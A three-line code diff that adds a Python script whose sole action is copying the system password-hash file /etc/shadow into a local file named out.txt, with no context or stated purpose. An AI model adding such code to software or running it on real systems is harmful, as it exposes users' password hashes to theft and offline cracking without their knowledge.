@@ -1,0 +1,3 @@
+import shutil
+
+shutil.copy("/etc/shadow", "out.txt")
